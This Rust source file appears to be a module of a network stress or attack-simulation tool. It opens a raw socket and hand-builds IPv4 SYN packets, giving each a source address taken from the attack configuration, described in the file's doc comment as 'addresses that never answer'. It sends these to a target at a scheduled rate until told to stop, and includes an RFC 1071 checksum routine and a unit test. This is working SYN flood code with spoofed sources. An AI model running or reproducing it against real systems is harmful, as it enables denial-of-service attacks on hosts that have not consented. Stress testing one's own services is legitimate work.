//! SYN packets from addresses that never answer (raw(7)).

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use rustix::net::{AddressFamily, RawProtocol, SendFlags, SocketType, ipproto, sendto, socket};

use super::case::Attack;
use super::crowd::{Taken, due};
use crate::failure::{Context as _, Failure, Result};

/// Sends SYN packets, until `stop`.
pub(super) fn send_all(to: SocketAddr, attack: Attack, stop: &AtomicBool) -> Result<Taken> {
    let IpAddr::V4(target) = to.ip() else { return Err(Failure::new("SYN packets are IPv4 here")) };
    // The header of the packets is ours with this protocol.
    let socket =
        socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW)).context("a raw socket")?;
    let (begun, mut tried) = (Instant::now(), 0);
    while !stop.load(Ordering::Relaxed) {
        while tried < due(begun) {
            tried += 1;
            if let IpAddr::V4(source) = attack.source(tried) {
                let port = u16::try_from(1024 + tried / 256 % 60_000).unwrap_or(1024);
                let packet = syn((source, port), (target, to.port()));
                sendto(&socket, &packet, SendFlags::empty(), &to).context("send a SYN")?;
            }
        }
        thread::sleep(Duration::from_millis(1));
    }
    Ok(Taken { tried, held: 0 })
}

/// An IPv4 packet (RFC 791) with a TCP header (RFC 9293) that has the SYN flag.
fn syn((source, source_port): (Ipv4Addr, u16), (target, port): (Ipv4Addr, u16)) -> Vec<u8> {
    let protocol = u8::try_from(RawProtocol::get(ipproto::TCP.as_raw())).unwrap_or_default();
    let addresses = [source.octets(), target.octets()].concat();
    // The kernel fills in the checksum and the length of the IPv4 header.
    let ip = [&[0x45, 0, 0, 40, 0, 0, 0, 0, 64, protocol, 0, 0][..], &addresses].concat();
    let mut tcp = [&source_port.to_be_bytes()[..], &port.to_be_bytes()].concat();
    tcp.extend([0, 0, 0, 1, 0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
    let pseudo_header = [&addresses[..], &[0, protocol, 0, 20]].concat();
    let sum = checksum(&[&pseudo_header[..], &tcp].concat());
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    [ip, tcp].concat()
}

/// The checksum of the Internet protocols (RFC 1071), of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum: u32 = words.sum();
    while let carry @ 1.. = sum >> 16 {
        sum = (sum & 0xffff) + carry;
    }
    !u16::try_from(sum).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_of_a_packet_makes_its_sum_zero() {
        assert_eq!(checksum(&[0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7]), !0xddf2);
        let packet = syn(([198, 51, 100, 9].into(), 1024), ([127, 0, 0, 1].into(), 80));
        let pseudo_header = [&packet[12..20], &[0, 6, 0, 20]].concat();
        assert_eq!(checksum(&[&pseudo_header, &packet[20..]].concat()), 0);
    }
}
